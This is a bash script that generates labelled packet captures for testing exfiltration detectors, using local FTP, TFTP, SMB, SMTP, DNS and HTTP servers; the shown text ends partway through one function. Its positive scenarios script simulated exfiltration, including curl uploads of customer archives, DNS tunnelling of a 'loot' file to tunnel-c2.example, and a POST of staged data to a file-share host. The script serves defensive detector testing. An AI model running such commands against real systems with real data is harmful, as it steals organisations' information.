#!/usr/bin/env bash
# Generate the detector scenario captures in pcaps/scenarios/ (positives, negatives and
# a baseline for the exfiltration analytics AN0030, AN0367, AN0423, AN1173) from REAL
# servers and clients talking over loopback: vsftpd, tftpd-hpa, samba, aiosmtpd,
# dnsmasq, python http.server/sockets; curl, tftp-hpa, smbclient, swaks, dig.
#
# usage: scripts/gen-scenarios.sh [--keep-tmp] [--check] [SCENARIO...]
#        scripts/gen-scenarios.sh --check-only [SCENARIO...]
#
# SCENARIOs select which captures to (re)make; none, or `all`, makes every one.
#   ftp-upload            an1173-ftp-upload.pcap
#   ftp-port80            an1173-ftp-port80.pcap
#   tftp-put              an1173-tftp-put.pcap
#   smb-put               an1173-smb-put.pcap
#   smb-8445              an1173-smb-8445.pcap
#   smtp-offhours         an0367-smtp-offhours.pcap
#   dns-tunnel            an0367-dns-tunnel.pcap
#   smtp-volume-ws16      baseline-ws16-smtp.pcap, an0367-smtp-volume.pcap, neg-smtp-usual.pcap
#   staging               an0423-staging.pcap
#   raw-4444              an0030-raw-4444.pcap
#   http-header-stuffing  an0030-http-header-stuffing.pcap
#   non-dns-53            an0030-non-dns-53.pcap
#   backup-allowlisted    neg-backup-allowlisted.pcap
#   internal-smb-copy     neg-internal-smb-copy.pcap
#   large-download        neg-large-download.pcap
#   normal-dns            neg-normal-dns.pcap (takes a minute: 40 queries ~1.5 s apart)
#   mail-relay            neg-mail-relay.pcap
# manifest.json and README.md in pcaps/scenarios/ are always rewritten (from the
# table in scripts/gen-scenarios-helper.py); other pcaps there are left alone.
#
#   --check       afterwards run target/release/exfil-sensor on each selected pcap and
#                 check app_proto, addresses and first-packet time against the manifest
#   --check-only  only that check, on the existing pcaps
#   --keep-tmp    keep the temporary directory (raw captures, server logs)
#
# Runs as root inside a private network namespace (`unshare --net`) whose loopback has
# MTU 1500 and no segmentation offload (frames <= 1514 bytes). Every host gets its own
# loopback address (10.A.B.C -> 127.A.B.C, 203.0.113.N -> 127.113.0.N,
# 198.51.100.N -> 127.100.0.N); a `local` route with a `src` hint per client/server pair
# makes even clients that cannot bind (smbclient, tftp, swaks, dig) and tftpd's reply
# socket use the right address. Each capture is then rewritten with
# `tcprewrite --pnat=... --fixcsum`, moved in time with `editcap -t` so its first packet
# falls at the scenario's local time (Europe/Berlin), and multi-part scenarios are
# joined with `mergecap`. Missing Debian packages are installed with apt-get (service
# start-up blocked with policy-rc.d during the install). Payloads are seeded random
# bytes, the same on every run; timestamps inside a capture, ports, ISNs differ.
set -euo pipefail

SCRIPT_DIR=$(cd "$(dirname "$0")" && pwd)
ROOT=$(cd "$SCRIPT_DIR/.." && pwd)
OUT="$ROOT/pcaps/scenarios"
HELPER="$SCRIPT_DIR/gen-scenarios-helper.py"
PY=${PYTHON:-python3}
SMTP_PY=${SMTP_PYTHON:-/usr/bin/python3}   # aiosmtpd is Debian's python3-aiosmtpd
SENSOR=${SENSOR:-$ROOT/target/release/exfil-sensor}
LOG_PREFIX=gen-scenarios
RUN_TIMEOUT=60   # every client bounded in time (run)
# shellcheck source-path=SCRIPTDIR source=lib-capture.sh
source "$SCRIPT_DIR/lib-capture.sh"

ALL=(ftp-upload ftp-port80 tftp-put smb-put smb-8445 smtp-offhours dns-tunnel
     smtp-volume-ws16 staging raw-4444 http-header-stuffing non-dns-53
     backup-allowlisted internal-smb-copy large-download normal-dns mail-relay)
declare -A FILES=(
  [ftp-upload]=an1173-ftp-upload.pcap [ftp-port80]=an1173-ftp-port80.pcap
  [tftp-put]=an1173-tftp-put.pcap [smb-put]=an1173-smb-put.pcap
  [smb-8445]=an1173-smb-8445.pcap [smtp-offhours]=an0367-smtp-offhours.pcap
  [dns-tunnel]=an0367-dns-tunnel.pcap
  [smtp-volume-ws16]="baseline-ws16-smtp.pcap an0367-smtp-volume.pcap neg-smtp-usual.pcap"
  [staging]=an0423-staging.pcap [raw-4444]=an0030-raw-4444.pcap
  [http-header-stuffing]=an0030-http-header-stuffing.pcap [non-dns-53]=an0030-non-dns-53.pcap
  [backup-allowlisted]=neg-backup-allowlisted.pcap [internal-smb-copy]=neg-internal-smb-copy.pcap
  [large-download]=neg-large-download.pcap [normal-dns]=neg-normal-dns.pcap
  [mail-relay]=neg-mail-relay.pcap
)

KEEP_TMP=0
CHECK=0
GENERATE=1
SELECTED=()
for arg in "$@"; do
  case "$arg" in
    --keep-tmp) KEEP_TMP=1 ;;
    --check) CHECK=1 ;;
    --check-only) CHECK=1; GENERATE=0 ;;
    -h|--help) show_help "$0"; exit 0 ;;
    all) SELECTED+=("${ALL[@]}") ;;
    -*) echo "unknown argument: $arg" >&2; exit 2 ;;
    *)
      if [[ -n ${FILES[$arg]+x} ]]; then SELECTED+=("$arg")
      else echo "unknown scenario: $arg (scenarios: ${ALL[*]} all)" >&2; exit 2; fi ;;
  esac
done
((${#SELECTED[@]})) || SELECTED=("${ALL[@]}")
want() { [[ " ${SELECTED[*]} " == *" $1 "* ]]; }
want_any() { local s; for s in "$@"; do want "$s" && return 0; done; return 1; }

run_check() {
  local files=() s
  for s in "${SELECTED[@]}"; do read -ra f <<<"${FILES[$s]}"; files+=("${f[@]}"); done
  [[ -x $SENSOR ]] || die "no sensor binary at $SENSOR (cargo build --release first)"
  log "checking ${#files[@]} pcaps with $SENSOR"
  "$PY" "$HELPER" check --sensor "$SENSOR" --dir "$OUT" "${files[@]}"
}

if ((!GENERATE)); then run_check; exit $?; fi

# ---------------------------------------------------------------- packages
need_selected() {  # called by ensure_packages (lib-capture.sh)
  need editcap wireshark-common; need mergecap wireshark-common
  if want_any ftp-upload ftp-port80 backup-allowlisted; then need vsftpd vsftpd; need curl curl; fi
  if want_any staging large-download http-header-stuffing smtp-volume-ws16; then need curl curl; fi
  if want_any smb-put smb-8445 staging internal-smb-copy; then
    need smbd samba; need smbpasswd samba-common-bin; need smbclient smbclient
  fi
  if want tftp-put; then need_tftp_hpa; fi
  if want_any smtp-offhours smtp-volume-ws16 mail-relay; then need_aiosmtpd; fi
  if want_any dns-tunnel normal-dns; then need dnsmasq dnsmasq-base; need dig bind9-dnsutils; fi
}

if [[ ${GEN_SCEN_IN_NETNS:-0} != 1 ]]; then
  [[ $(id -u) -eq 0 ]] || die "must run as root (network namespace, tcpdump, servers on ports < 1024)"
  ensure_packages
  unshare --net true 2>/dev/null || die "unshare --net is not permitted here (the scenarios need a private network namespace)"
  netns_reexec GEN_SCEN "$0" "$@"
fi
export PATH="$PATH:/usr/sbin:/sbin"
START=${GEN_SCEN_START:-$(date +%s.%N)}

setup_loopback

# ---------------------------------------------------------------- process handling
setup_tmp gen-scenarios

# ---------------------------------------------------------------- addresses
lo_of() {  # the loopback address standing in for a scenario address
  local a b c d
  IFS=. read -r a b c d <<<"$1"
  case "$a.$b.$c" in
    10.*) echo "127.$b.$c.$d" ;;
    203.0.113) echo "127.113.0.$d" ;;
    198.51.100) echo "127.100.0.$d" ;;
    *) die "no loopback mapping for $1" ;;
  esac
}
pnat_of() {  # pnat_of IP...: --pnat value mapping each IP's loopback address back
  local ip maps=()
  for ip in "$@"; do maps+=("$(lo_of "$ip")/32:$ip/32"); done
  local IFS=,
  echo "${maps[*]}"
}
ROUTES=()
pair() {  # pair CLIENT SERVER: unbound sockets to SERVER use CLIENT as source, and back
  local c s
  c=$(lo_of "$1") s=$(lo_of "$2")
  ip route replace local "$s" dev lo table local src "$c"
  ip route replace local "$c" dev lo table local src "$s"
  ROUTES+=("$s" "$c")
}
unpair() {
  local r
  for r in "${ROUTES[@]}"; do ip route del local "$r" dev lo table local 2>/dev/null || true; done
  ROUTES=()
}

# ---------------------------------------------------------------- capture and rewrite
CAP_RAW=""
CAP_LOG=""
cap_start() {  # cap_start NAME 'bpf filter'  -> $TMP/NAME.raw.pcap
  CAP_RAW="$TMP/$1.raw.pcap"
  CAP_LOG="$TMP/tcpdump-$1.log"
  # -B: a 64 MiB kernel buffer, or a loopback burst (1 MiB in ~10 ms) drops packets
  tcpdump_start "$CAP_RAW" "$CAP_LOG" "$2" -B 65536
}
cap_stop() {
  tcpdump_stop
  local n
  n=$(pcap_count "$CAP_RAW")
  ((n > 0)) || die "$(basename "$CAP_RAW") is empty"
  grep -q '^0 packets dropped by kernel' "$CAP_LOG" \
    || die "$(basename "$CAP_RAW"): tcpdump lost packets: $(grep dropped "$CAP_LOG" | tr '\n' ' ')"
}

# finish RAW OUT LOCAL-TIME IP...: rewrite the IPs' loopback addresses, fix checksums,
# shift the first packet to LOCAL-TIME (ISO 8601 with offset)
finish() {
  local raw=$1 out=$2 when=$3 delta
  shift 3
  fix_checksums "$raw" "$raw.rw" --pnat="$(pnat_of "$@")"
  delta=$("$PY" "$HELPER" delta "$raw.rw" "$when")
  editcap -F pcap -t "$delta" "$raw.rw" "$out"
  rm -f "$raw.rw"
}
publish() {  # publish FILE PART...: merge (or copy) parts into pcaps/scenarios/FILE
  local file=$1 n
  shift
  if (($# == 1)); then cp "$1" "$OUT/$file.tmp"; else mergecap -F pcap -w "$OUT/$file.tmp" "$@"; fi
  mv -f "$OUT/$file.tmp" "$OUT/$file"
  n=$(pcap_count "$OUT/$file")
  log "$file: $n packets, $(stat -c %s "$OUT/$file") bytes"
}
single() {  # single NAME LOCAL-TIME IP...: the last capture is the whole scenario
  local name=$1 when=$2
  shift 2
  finish "$CAP_RAW" "$TMP/$name.part.pcap" "$when" "$@"
  publish "$name.pcap" "$TMP/$name.part.pcap"
}

BIZ=2026-03-10T10:00:00+01:00   # Tue, business hours
OFF=2026-03-08T03:00:00+01:00   # Sun, off hours

mkdir -p "$OUT"
mkfile() { "$PY" "$HELPER" mkfile "$@"; }

# ---------------------------------------------------------------- FTP (vsftpd)
# vsftpd_start NAME LISTEN-IP PORT ANNOUNCED-IP: anonymous vsftpd, uploads into
# ROOT/upload; PASV announces the scenario (rewritten) address
FTPROOT=""
vsftpd_start() {
  local name=$1 ip=$2 port=$3 pasv=$4 d="$TMP/ftp-$1"
  FTPROOT="$d/root"
  mkdir -p "$FTPROOT/upload" "$d/empty"
  chmod 555 "$FTPROOT"        # vsftpd refuses a writable anonymous root
  chown ftp:ftp "$FTPROOT/upload"
  id ftp >/dev/null 2>&1 || die "user 'ftp' missing (the vsftpd package creates it)"
  cat >"$d/vsftpd.conf" <<CONF
listen=YES
listen_ipv6=NO
listen_address=$ip
listen_port=$port
background=NO
anonymous_enable=YES
no_anon_password=NO
anon_root=$FTPROOT
local_enable=NO
write_enable=YES
anon_upload_enable=YES
anon_mkdir_write_enable=NO
pasv_enable=YES
pasv_address=$pasv
pasv_min_port=30000
pasv_max_port=30100
port_enable=NO
secure_chroot_dir=$d/empty
seccomp_sandbox=NO
isolate=NO
isolate_network=NO
xferlog_enable=NO
dual_log_enable=NO
vsftpd_log_file=$d/vsftpd.log
ftpd_banner=FTP server ready.
CONF
  vsftpd "$d/vsftpd.conf" &
  SRV=$!; PIDS+=("$SRV")
  wait_listen tcp "$port"
}

# ftp_put NAME CLIENT SERVER PORT FILE SIZE SEED WHEN EPSV|PASV
ftp_put() {
  local name=$1 c=$2 s=$3 port=$4 file=$5 size=$6 seed=$7 when=$8 mode=$9
  log "$name: $c -> $s:$port vsftpd, STOR $file ($size bytes, $mode)"
  pair "$c" "$s"
  vsftpd_start "$name" "$(lo_of "$s")" "$port" "$s"
  mkfile "$TMP/$file" "$size" "$seed"
  local opts=(--ftp-pasv)
  [[ $mode == PASV ]] && opts+=(--disable-epsv)
  cap_start "$name" "host $(lo_of "$c") and host $(lo_of "$s")"
  # USER anonymous, PASS, PWD, CWD upload, EPSV|PASV, TYPE I, STOR, QUIT
  run curl -sS "${opts[@]}" -T "$TMP/$file" "ftp://$(lo_of "$s"):$port/upload/$file"
  cap_stop
  cmp -s "$FTPROOT/upload/$file" "$TMP/$file" || die "$name: uploaded file differs"
  stop_pid "$SRV"
  unpair
  single "$name" "$when" "$c" "$s"
}

gen_ftp_upload() { ftp_put an1173-ftp-upload 10.20.0.11 203.0.113.50 21 q1-customers.tar.gz 1048576 101 "$BIZ" PASV; }
gen_ftp_port80() { ftp_put an1173-ftp-port80 10.20.0.12 203.0.113.51 80 notes.7z 204800 102 "$BIZ" EPSV; }
gen_backup_allowlisted() {
  ftp_put neg-backup-allowlisted 10.10.0.9 198.51.100.10 21 nightly-2026-03-08.tar.gz 1258291 113 "$OFF" PASV
}

# ---------------------------------------------------------------- TFTP (tftpd-hpa)
gen_tftp_put() {
  local name=an1173-tftp-put c=10.20.0.13 s=203.0.113.69 file=router-configs.bin
  log "$name: $c -> $s:69 tftpd-hpa, WRQ $file (819200 bytes)"
  local root="$TMP/tftp/root" local_dir="$TMP/tftp/local"
  mkdir -p "$root" "$local_dir"
  chmod 777 "$root"   # in.tftpd serves as user nobody; -c lets it create files
  mkfile "$local_dir/$file" 819200 103
  pair "$c" "$s"
  # In the namespace `-a ADDR:69` fails (in.tftpd resolves it with AI_ADDRCONFIG, which
  # finds no IPv4 address when there is only loopback); :69 is this namespace only.
  in.tftpd -4 -L -s "$root" -c -p -u nobody -a ":69" &
  SRV=$!; PIDS+=("$SRV")
  wait_listen udp 69
  cap_start "$name" "host $(lo_of "$c") and host $(lo_of "$s")"
  (cd "$local_dir" && run tftp -m binary "$(lo_of "$s")" 69 -c put "$file" "$file")
  local _
  for _ in $(seq 50); do cmp -s "$root/$file" "$local_dir/$file" && break; sleep 0.1; done
  cap_stop
  cmp -s "$root/$file" "$local_dir/$file" || die "$name: uploaded file differs"
  for _ in $(seq 50); do ps -o pid= --ppid "$SRV" | grep -q . || break; sleep 0.1; done
  stop_pid "$SRV"
  unpair
  single "$name" "$BIZ" "$c" "$s"
}

# ---------------------------------------------------------------- SMB (samba)
SMB_USER=smbtest
SMB_PASS='exfil-Test-1'
SMB_READY=0
smb_setup() {
  ((SMB_READY)) && return 0
  local d="$TMP/smb"
  mkdir -p "$d"/{private,lock,state,cache,run,ncalrpc,log} "$d/local"
  if ! id "$SMB_USER" >/dev/null 2>&1; then
    # the same system account scripts/gen-pcaps.sh uses: no login, no home; its samba
    # password lives in $TMP only
    useradd --system --no-create-home --home-dir /nonexistent --shell /usr/sbin/nologin "$SMB_USER" \
      || die "useradd $SMB_USER failed"
  fi
  smb_conf init 127.0.0.1 445 data >"$d/smb-init.conf"
  printf '%s\n%s\n' "$SMB_PASS" "$SMB_PASS" \
    | smbpasswd -c "$d/smb-init.conf" -s -a "$SMB_USER" >"$d/log/smbpasswd.out" 2>&1 \
    || die "smbpasswd failed: $(cat "$d/log/smbpasswd.out")"
  SMB_READY=1
}
# smb_conf NAME SERVER-LO-IP PORT SHARE: standalone smbd; share dir $TMP/smb/share-NAME
smb_conf() {
  local name=$1 ip=$2 port=$3 share=$4 d="$TMP/smb"
  cat <<CONF
[global]
  netbios name = $([[ $ip == 127.10.* ]] && echo FS01 || echo NAS01)
  workgroup = CORP
  server string = file server
  server role = standalone server
  # smbd can only bind to addresses configured on an interface, and the namespace's
  # lo has 127.0.0.1/8 only: listen on the wildcard address (of this namespace)
  interfaces = lo
  bind interfaces only = no
$(smb_global_common "$port" "$d" "$name" off)

[$share]
  path = $d/share-$name
  read only = no
  browseable = yes
  valid users = $SMB_USER
CONF
}
SMB_CONF=""
SMB_SHARE_DIR=""
smbd_start() {  # smbd_start NAME SERVER-IP PORT SHARE
  local name=$1 ip=$2 port=$3 share=$4 d="$TMP/smb"
  smb_setup
  SMB_CONF="$d/smb-$name.conf"
  SMB_SHARE_DIR="$d/share-$name"
  mkdir -p "$SMB_SHARE_DIR"
  chown "$SMB_USER" "$SMB_SHARE_DIR"
  smb_conf "$name" "$(lo_of "$ip")" "$port" "$share" >"$SMB_CONF"
  # smbd leads its own process group and signals it as a whole on SIGTERM
  smbd --foreground --debug-stdout -d 1 -s "$SMB_CONF" >>"$d/log/smbd-$name.out" 2>&1 &
  SRV=$!; PIDS+=("$SRV")
  wait_listen tcp "$port"
}
# smbclient_run SERVER PORT SHARE COMMANDS: UNC name = the scenario address, connection
# to its loopback stand-in (-I)
smbclient_run() {
  local s=$1 port=$2 share=$3 cmds=$4 d="$TMP/smb"
  run smbclient "//$s/$share" -I "$(lo_of "$s")" -p "$port" -s "$SMB_CONF" -m SMB3 \
    -U "$SMB_USER%$SMB_PASS" --use-kerberos=off -c "lcd $d/local; $cmds" \
    >>"$d/log/smbclient.out" 2>&1 || die "smbclient to $s:$port failed: $(tail -3 "$d/log/smbclient.out")"
}
# smb_put NAME CLIENT SERVER PORT SHARE FILE SIZE SEED
smb_put() {
  local name=$1 c=$2 s=$3 port=$4 share=$5 file=$6 size=$7 seed=$8
  log "$name: $c -> $s:$port samba, put $file ($size bytes) into \\\\$s\\$share"
  pair "$c" "$s"
  smbd_start "$name" "$s" "$port" "$share"
  mkfile "$TMP/smb/local/$file" "$size" "$seed"
  cap_start "$name" "host $(lo_of "$c") and host $(lo_of "$s")"
  smbclient_run "$s" "$port" "$share" "put $file"
  cap_stop
  cmp -s "$SMB_SHARE_DIR/$file" "$TMP/smb/local/$file" || die "$name: uploaded file differs"
  stop_pid "$SRV"
  unpair
  single "$name" "$BIZ" "$c" "$s"
}
gen_smb_put() { smb_put an1173-smb-put 10.20.0.14 203.0.113.45 445 upload hr-export.zip 1048576 104; }
gen_smb_8445() { smb_put an1173-smb-8445 10.20.0.14 203.0.113.46 8445 upload payroll.xlsx 102400 105; }
gen_internal_smb_copy() { smb_put neg-internal-smb-copy 10.20.0.11 10.10.0.5 445 projects budget-2026.xlsx 1048576 114; }

# ---------------------------------------------------------------- SMTP (aiosmtpd, swaks)
MAILDIR=""
smtpd_start() {  # smtpd_start NAME SERVER-IP
  local d="$TMP/smtp-$1"
  MAILDIR="$d/maildir"
  mkdir -p "$d"
  # the Mailbox handler keeps what it receives so the content can be checked
  "$SMTP_PY" -m aiosmtpd -n -l "$(lo_of "$2"):25" -c aiosmtpd.handlers.Mailbox "$MAILDIR" \
    >"$d/aiosmtpd.log" 2>&1 &
  SRV=$!; PIDS+=("$SRV")
  wait_listen tcp 25
}
rfc2822() { TZ=Europe/Berlin date -d "$1" '+%a, %d %b %Y %H:%M:%S %z'; }
# send_mail SERVER-IP HELO FROM TO SUBJECT WHEN MSGID [swaks args...]
send_mail() {
  local s=$1 helo=$2 from=$3 to=$4 subject=$5 when=$6 msgid=$7
  shift 7
  run swaks --server "$(lo_of "$s")" --port 25 --helo "$helo" --timeout 20 \
    --from "$from" --to "$to" --header "Subject: $subject" \
    --header "Date: $(rfc2822 "$when")" --header "Message-Id: <$msgid>" \
    "$@" >>"$TMP/swaks.log" 2>&1 || die "swaks to $s failed: $(tail -3 "$TMP/swaks.log")"
}

gen_smtp_offhours() {
  local name=an0367-smtp-offhours c=10.20.0.12 s=203.0.113.25 file=contracts.zip
  log "$name: $c -> $s:25 aiosmtpd, 800 KiB attachment, Sun 03:00"
  pair "$c" "$s"
  smtpd_start "$name" "$s"
  mkfile "$TMP/$file" 819200 106
  cap_start "$name" "host $(lo_of "$c") and host $(lo_of "$s")"
  send_mail "$s" ws12.corp.example j.weber@corp.example dropbox-4711@mail.example.net \
    "contracts" "$OFF" "20260308030000.4711@ws12.corp.example" \
    --body 'see attachment' --attach-type application/zip --attach-name "$file" --attach "@$TMP/$file"
  cap_stop
  stop_pid "$SRV"
  "$PY" "$HELPER" mail-check --maildir "$MAILDIR" --count 1 --attachment "$TMP/$file" >&2
  unpair
  single "$name" "$OFF" "$c" "$s"
}

gen_smtp_volume_ws16() {
  local c=10.20.0.16 s=203.0.113.26 web=198.51.100.80 d="$TMP/ws16"
  mkdir -p "$d"
  log "smtp-volume-ws16: $c -> $s:25 aiosmtpd: 4 KiB mail (baseline), 1 MiB attachment, 5 KiB mail"
  "$PY" "$HELPER" mktext "$d/body4k.txt" 3758 107
  "$PY" "$HELPER" mktext "$d/body5k.txt" 4782 108
  mkfile "$d/design-archive.zip" 1048576 109
  pair "$c" "$s"
  smtpd_start ws16 "$s"
  local mail=(send_mail "$s" ws16.corp.example a.schmidt@corp.example m.braun@partner.example.org)
  cap_start ws16-weekly "host $(lo_of "$c") and host $(lo_of "$s")"
  "${mail[@]}" "weekly status" 2026-02-10T10:00:00+01:00 "20260210100000.1616@ws16.corp.example" \
    --body "@$d/body4k.txt"
  cap_stop
  local weekly=$CAP_RAW
  cap_start ws16-volume "host $(lo_of "$c") and host $(lo_of "$s")"
  "${mail[@]}" "design archive" "$BIZ" "20260310100000.1616@ws16.corp.example" \
    --body 'the archive' --attach-type application/zip --attach-name design-archive.zip \
    --attach "@$d/design-archive.zip"
  cap_stop
  local volume=$CAP_RAW
  cap_start ws16-usual "host $(lo_of "$c") and host $(lo_of "$s")"
  "${mail[@]}" "weekly status" "$BIZ" "20260310100000.1717@ws16.corp.example" \
    --body "@$d/body5k.txt"
  cap_stop
  local usual=$CAP_RAW
  stop_pid "$SRV"
  "$PY" "$HELPER" mail-check --maildir "$MAILDIR" --count 3 --attachment "$d/design-archive.zip" >&2
  unpair

  log "smtp-volume-ws16: 10.20.0.11-15 GET a small page from $web:80 each week (python http.server)"
  local www="$d/www" parts=() day n
  mkdir -p "$www/news"
  "$PY" "$HELPER" mktext "$www/news/index.html" 3000 111
  for day in 02-10 02-17 02-24 03-03; do
    finish "$weekly" "$d/mail-$day.pcap" "2026-${day}T10:00:00+01:00" "$c" "$s"
    http_start "ws-$day" "$web" "2026-${day}T10:05:00+01:00" "$www"
    cap_start "ws-http-$day" "host $(lo_of "$web")"
    for n in 11 12 13 14 15; do
      run curl -sS -o /dev/null --interface "$(lo_of 10.20.0.$n)" \
        --resolve "news.example.net:80:$(lo_of "$web")" http://news.example.net/news/index.html
      ((n == 15)) || sleep 0.4
    done
    cap_stop
    stop_pid "$SRV"
    finish "$CAP_RAW" "$d/http-$day.pcap" "2026-${day}T10:05:00+01:00" \
      10.20.0.11 10.20.0.12 10.20.0.13 10.20.0.14 10.20.0.15 "$web"
    parts+=("$d/mail-$day.pcap" "$d/http-$day.pcap")
  done
  publish baseline-ws16-smtp.pcap "${parts[@]}"
  finish "$volume" "$d/volume.pcap" "$BIZ" "$c" "$s"
  publish an0367-smtp-volume.pcap "$d/volume.pcap"
  finish "$usual" "$d/usual.pcap" "$BIZ" "$c" "$s"
  publish neg-smtp-usual.pcap "$d/usual.pcap"
}

gen_mail_relay() {
  local name=neg-mail-relay c=10.10.0.25 s=203.0.113.25 i
  log "$name: $c -> $s:25 aiosmtpd, 5 mails of ~200 KiB"
  pair "$c" "$s"
  smtpd_start "$name" "$s"
  local files=()
  for i in 1 2 3 4 5; do
    mkfile "$TMP/offer-$i.pdf" 151000 $((120 + i))
    files+=(--attachment "$TMP/offer-$i.pdf")
  done
  cap_start "$name" "host $(lo_of "$c") and host $(lo_of "$s")"
  for i in 1 2 3 4 5; do
    send_mail "$s" relay.corp.example "sales$i@corp.example" "purchasing@customer$i.example.net" \
      "offer 2026-03-$i" "$BIZ" "20260310100000.$i@relay.corp.example" \
      --body 'please find our offer attached' --attach-type application/pdf \
      --attach-name "offer-$i.pdf" --attach "@$TMP/offer-$i.pdf"
    sleep 0.5
  done
  cap_stop
  stop_pid "$SRV"
  "$PY" "$HELPER" mail-check --maildir "$MAILDIR" --count 5 "${files[@]}" >&2
  unpair
  single "$name" "$BIZ" "$c" "$s"
}

# ---------------------------------------------------------------- DNS (dnsmasq)
dnsmasq_start() {  # dnsmasq_start SERVER-IP ARGS...
  local ip=$1
  shift
  dnsmasq --keep-in-foreground --conf-file=/dev/null --pid-file= --port=53 \
    --listen-address="$(lo_of "$ip")" --bind-interfaces --no-resolv --no-hosts \
    --log-facility="$TMP/dnsmasq.log" "$@" &
  SRV=$!; PIDS+=("$SRV")
  wait_listen udp 53
}

gen_dns_tunnel() {
  local name=an0367-dns-tunnel c=10.20.0.13 s=198.51.100.53
  log "$name: $c -> $s:53 dnsmasq, 40 KiB in base32 query names"
  pair "$c" "$s"
  # --local: the other types (TXT) get NOERROR without data instead of REFUSED
  dnsmasq_start "$s" --address=/tunnel-c2.example/198.51.100.99 --local=/tunnel-c2.example/
  mkfile "$TMP/loot40k.bin" 40960 112
  cap_start "$name" "host $(lo_of "$c") and host $(lo_of "$s")"
  run "$PY" "$HELPER" dns-tunnel --server "$(lo_of "$s")" --file "$TMP/loot40k.bin" \
    --domain t.tunnel-c2.example --chunk 50 --seed 112 --gap 0.005 >&2
  cap_stop
  stop_pid "$SRV"
  unpair
  single "$name" "$BIZ" "$c" "$s"
}

gen_normal_dns() {
  local name=neg-normal-dns c=10.20.0.13 s=198.51.100.53
  log "$name: $c -> $s:53 dnsmasq, 40 ordinary queries over a minute"
  pair "$c" "$s"
  dnsmasq_start "$s" \
    --host-record=www.example.com,198.51.100.20,2001:db8:20::20 \
    --host-record=mail.example.org,203.0.113.30,2001:db8:30::30 \
    --host-record=mx1.example.com,198.51.100.21 \
    --host-record=api.example.com,198.51.100.22,2001:db8:20::22 \
    --host-record=cdn.example.net,203.0.113.40,2001:db8:40::40 \
    --host-record=login.example.com,198.51.100.23 \
    --host-record=updates.example.net,203.0.113.41 \
    --host-record=news.example.org,203.0.113.31,2001:db8:30::31 \
    --host-record=docs.example.net,203.0.113.42 \
    --host-record=calendar.example.org,203.0.113.32 \
    --mx-host=example.org,mail.example.org,10 --mx-host=example.com,mx1.example.com,10
  local q=(
    "www.example.com A" "www.example.com AAAA" "mail.example.org A" "example.org MX"
    "api.example.com A" "cdn.example.net A" "cdn.example.net AAAA" "login.example.com A"
    "updates.example.net A" "news.example.org A" "news.example.org AAAA" "example.com MX"
    "docs.example.net A" "calendar.example.org A" "www.example.com A" "mx1.example.com A"
    "api.example.com AAAA" "mail.example.org AAAA" "www.example.com AAAA" "cdn.example.net A"
  )
  cap_start "$name" "host $(lo_of "$c") and host $(lo_of "$s")"
  local i
  for i in $(seq 0 39); do
    read -r qn qt <<<"${q[i % ${#q[@]}]}"
    # distinct source ports (dig's random ones can repeat, merging two queries' flows)
    run dig -b "$(lo_of "$c")#$((32768 + (i * 7919 + 1234) % 28000))" @"$(lo_of "$s")" \
      +tries=1 +time=3 "$qn" "$qt" >>"$TMP/dig.log" \
      || die "$name: dig $qn $qt failed"
    ((i == 39)) || sleep 1.5
  done
  cap_stop
  grep -c 'status: NOERROR' "$TMP/dig.log" | grep -qx 40 || die "$name: not every query answered NOERROR"
  stop_pid "$SRV"
  unpair
  single "$name" "$BIZ" "$c" "$s"
}

# ---------------------------------------------------------------- HTTP (python http.server, curl)
# http_start NAME SERVER-IP LOCAL-TIME [DIR]: serves DIR (default $TMP/www-NAME) on
# port 80 with Date headers from LOCAL-TIME on, keeps POST bodies in DIR/uploads
WWW=""
http_start() {
  WWW=${4:-$TMP/www-$1}
  mkdir -p "$WWW"
  "$PY" "$HELPER" http-server --bind "$(lo_of "$2")" --port 80 --dir "$WWW" --lifetime 120 --clock "$3" &
  SRV=$!; PIDS+=("$SRV")
  wait_listen tcp 80
}

gen_large_download() {
  local name=neg-large-download c=10.20.0.11 s=198.51.100.80 host=downloads.example.net
  log "$name: $c <- $s:80 python http.server, GET 1.2 MiB"
  pair "$c" "$s"
  http_start "$name" "$s" "$BIZ"
  mkdir -p "$WWW/tools"
  mkfile "$WWW/tools/installer-1.2.bin" 1258291 115
  cap_start "$name" "host $(lo_of "$c") and host $(lo_of "$s")"
  run curl -sS -o "$TMP/installer.bin" --resolve "$host:80:$(lo_of "$s")" "http://$host/tools/installer-1.2.bin"
  cap_stop
  cmp -s "$TMP/installer.bin" "$WWW/tools/installer-1.2.bin" || die "$name: download differs"
  stop_pid "$SRV"
  unpair
  single "$name" "$BIZ" "$c" "$s"
}

gen_http_header_stuffing() {
  local name=an0030-http-header-stuffing c=10.20.0.18 s=198.51.100.82 host=api.example-cdn.net i
  log "$name: $c -> $s:80 python http.server, 30 GETs with a 2 KiB X-Session header"
  pair "$c" "$s"
  http_start "$name" "$s" "$BIZ"
  mkdir -p "$WWW/v1"
  printf '{"status":"ok"}\n' >"$WWW/v1/status.json"
  cap_start "$name" "host $(lo_of "$c") and host $(lo_of "$s")"
  for i in $(seq 1 30); do
    run curl -sS -o /dev/null --resolve "$host:80:$(lo_of "$s")" \
      -H "X-Session: $("$PY" "$HELPER" b64 1536 $((1000 + i)))" "http://$host/v1/status.json"
    ((i == 30)) || sleep 0.5
  done
  cap_stop
  stop_pid "$SRV"
  unpair
  single "$name" "$BIZ" "$c" "$s"
}

gen_staging() {
  local name=an0423-staging c=10.20.0.15 fs=10.10.0.5 web=198.51.100.81 host=files.example-share.net
  local file=q2-roadmap.7z
  log "$name: $c <- $fs:445 smbclient get $file (1 MiB), then POST it to $web:80"
  pair "$c" "$fs"
  smbd_start "$name" "$fs" 445 projects
  mkfile "$SMB_SHARE_DIR/$file" 1048576 116
  chmod 644 "$SMB_SHARE_DIR/$file"
  rm -f "$TMP/smb/local/$file"
  cap_start "$name-smb" "host $(lo_of "$c") and host $(lo_of "$fs")"
  smbclient_run "$fs" 445 projects "get $file"
  cap_stop
  local smb=$CAP_RAW
  cmp -s "$TMP/smb/local/$file" "$SMB_SHARE_DIR/$file" || die "$name: downloaded file differs"
  stop_pid "$SRV"
  unpair

  pair "$c" "$web"
  http_start "$name" "$web" 2026-03-10T10:03:00+01:00
  cap_start "$name-http" "host $(lo_of "$c") and host $(lo_of "$web")"
  run curl -sS -o /dev/null -H 'Expect:' -H 'Content-Type: application/octet-stream' \
    --resolve "$host:80:$(lo_of "$web")" --data-binary "@$TMP/smb/local/$file" "http://$host/upload"
  cap_stop
  local http=$CAP_RAW
  cmp -s "$WWW/uploads/upload.bin" "$TMP/smb/local/$file" || die "$name: POSTed body differs"
  stop_pid "$SRV"
  unpair

